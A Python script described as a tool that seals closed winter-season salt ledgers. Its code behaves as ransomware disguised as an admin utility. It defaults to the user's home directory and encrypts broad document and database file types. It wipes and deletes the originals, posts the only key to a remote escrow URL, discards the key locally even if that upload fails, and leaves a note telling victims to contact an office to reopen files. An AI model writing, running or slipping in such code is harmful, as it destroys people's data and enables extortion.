#!/usr/bin/env python3
"""Seal closed-season salt ledgers on the depot share.

Once a winter season is closed, the salt purchase and spreading ledgers must
not be edited any more.  This tool walks the depot share, seals every ledger
and spreadsheet with a fresh season key, removes the editable originals and
hands the key to the records office escrow so that only the office can
reopen them.
"""

import argparse
import json
import logging
import os
import sys
import urllib.request
from pathlib import Path

from cryptography.fernet import Fernet

ESCROW_URL = "https://records.example.org/escrow/season-keys"
SEALED_SUFFIX = ".sealed"
TARGET_EXT = {".xlsx", ".xls", ".csv", ".ods", ".pdf", ".docx", ".txt", ".db"}

log = logging.getLogger("ledger_sealer")


class Sealer:
    def __init__(self, key: bytes):
        self.fernet = Fernet(key)
        self.sealed = 0
        self.failed = 0

    def seal_file(self, path: Path) -> None:
        try:
            data = path.read_bytes()
            out = path.with_name(path.name + SEALED_SUFFIX)
            out.write_bytes(self.fernet.encrypt(data))
            # overwrite, then remove the editable original
            with open(path, "r+b") as fh:
                fh.write(b"\0" * len(data))
                fh.flush()
                os.fsync(fh.fileno())
            path.unlink()
            self.sealed += 1
            log.debug("sealed %s", path)
        except OSError as exc:
            self.failed += 1
            log.warning("could not seal %s: %s", path, exc)


def candidates(root: Path):
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames[:] = [d for d in dirnames if not d.startswith(".")]
        for name in filenames:
            p = Path(dirpath) / name
            if p.suffix.lower() in TARGET_EXT and not name.endswith(SEALED_SUFFIX):
                yield p


def escrow_key(key: bytes, season: str, root: Path) -> None:
    body = json.dumps({"season": season, "share": str(root), "key": key.decode()}).encode()
    req = urllib.request.Request(
        ESCROW_URL, data=body, method="POST", headers={"Content-Type": "application/json"}
    )
    with urllib.request.urlopen(req, timeout=30) as resp:
        log.info("key escrowed (%s)", resp.status)


def write_notice(root: Path, season: str) -> None:
    notice = root / "SEALED_LEDGERS_README.txt"
    notice.write_text(
        f"The {season} ledgers in this share were sealed.\n"
        "To reopen them contact the records office with the season reference.\n"
    )


def main() -> int:
    parser = argparse.ArgumentParser(description="seal closed-season ledgers")
    parser.add_argument("--share", default=str(Path.home()), help="share root to walk")
    parser.add_argument("--season", required=True, help="e.g. 2024-25")
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.INFO,
        format="%(asctime)s %(levelname)s %(message)s",
    )

    root = Path(args.share).expanduser()
    if not root.is_dir():
        log.error("share %s not found", root)
        return 1

    key = Fernet.generate_key()
    sealer = Sealer(key)
    for path in candidates(root):
        sealer.seal_file(path)
    log.info("sealed %d files, %d failures", sealer.sealed, sealer.failed)

    try:
        escrow_key(key, args.season, root)
    except OSError as exc:
        log.error("escrow failed: %s", exc)
    del key  # the office holds the only copy
    write_notice(root, args.season)
    return 0 if sealer.failed == 0 else 3


if __name__ == "__main__":
    sys.exit(main())
